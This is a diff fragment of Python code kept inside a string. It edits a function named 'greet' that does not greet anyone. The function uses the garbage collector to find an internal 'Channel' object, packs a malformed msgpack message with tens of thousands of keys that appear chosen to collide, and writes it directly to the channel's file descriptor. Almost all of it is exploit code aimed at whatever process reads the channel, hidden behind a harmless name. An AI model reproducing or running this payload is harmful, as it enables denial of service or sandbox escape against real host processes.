@@ -18,9 +18,9 @@ def greet(name):
     send = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
     import msgpack, struct
     keys = [i * P for i in range(8)] + [float(i * P) for i in range(60_000)]
-    body = msgpack.packb([0, "value", [{k: 0 for k in keys[:8]}, None]])
+    body = msgpack.packb([0, "value", {k: 0 for k in keys[:8]}])
     pairs = b"".join(msgpack.packb(k) + b"\\0" for k in keys)
-    body = body[:1] + body[1:2] + msgpack.packb("value") + b"\\x92\\xdf" + struct.pack(">I", len(keys)) + pairs + b"\\xc0"
+    body = body[:1] + body[1:2] + msgpack.packb("value") + b"\\xdf" + struct.pack(">I", len(keys)) + pairs
     os.write(send.write_fd, struct.pack(">I", len(body)) + body)
     return ""
 '''
